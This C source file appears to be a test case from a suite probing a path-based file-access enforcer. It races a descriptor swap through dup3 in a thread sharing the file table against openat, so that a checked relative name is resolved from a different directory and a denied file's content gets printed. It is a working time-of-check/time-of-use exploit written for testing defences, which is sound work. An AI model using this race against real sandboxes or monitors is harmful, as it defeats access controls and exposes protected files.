// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: a name is judged from the directory that the kernel will start from,
 * although a peer that shares the descriptors exchanges them (catalogue B5).
 *
 *	opener			peer (CLONE_FILES)	enforcer
 *	openat(FD, name) ----------------------------->	looks FD up: DIR/d/d/d,
 *							permitted
 *				dup3(DIR/top, FD)
 *	kernel walks from top <-----------------------	lets the call through
 *				dup3(DIR/d/d/d, FD)
 *
 * Winning prints DATA and the content of the denied file.
 */
#include "mirror.h"
#include "race.h"

#include <pthread.h>

static struct mirror mirror;
static int directories[2], shared;
static _Atomic unsigned int turns;
static _Atomic bool stop;

static void *exchanger(void *unused)
{
	(void)unused;
	for (unsigned int turn = 1; !atomic_load(&stop); turn++) {
		syscall(SYS_dup3, JUNK(directories[turn & 1]), JUNK(shared), JUNK(O_CLOEXEC));
		atomic_store(&turns, turn);
		flip_pause();
	}
	return NULL;
}

static int open_directory(const char *name)
{
	int fd = raw_open(name, O_RDONLY | O_DIRECTORY);

	if (fd < 0)
		broken("directory %s: %s", name, strerror(errno));
	return fd;
}

static void race(struct run *run, const char *name)
{
	pthread_t thread;

	directories[0] = open_directory(mirror.deep);
	directories[1] = open_directory(mirror.top);
	shared = open_directory(mirror.deep);
	race_begin(run);
	if (pthread_create(&thread, NULL, exchanger, NULL))
		broken("no second thread");
	widen_caller(run);
	while (race_next(run, &turns))
		run_opened(run, raw_openat(shared, name, O_RDONLY));
	atomic_store(&stop, true);
	pthread_join(thread, NULL);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		mirror_make_twins(&mirror, &run);
		race(&run, TWIN);
		break;
	case MODE_DIRECT:
		run_plain_read(&run, run.denied);
		break;
	case MODE_ATTACK:
		run_learn_decoy(&run);
		mirror_make(&mirror, run.dir, run.denied, run.decoy);
		race(&run, mirror.name);
		break;
	}
	run_end(&run);
}
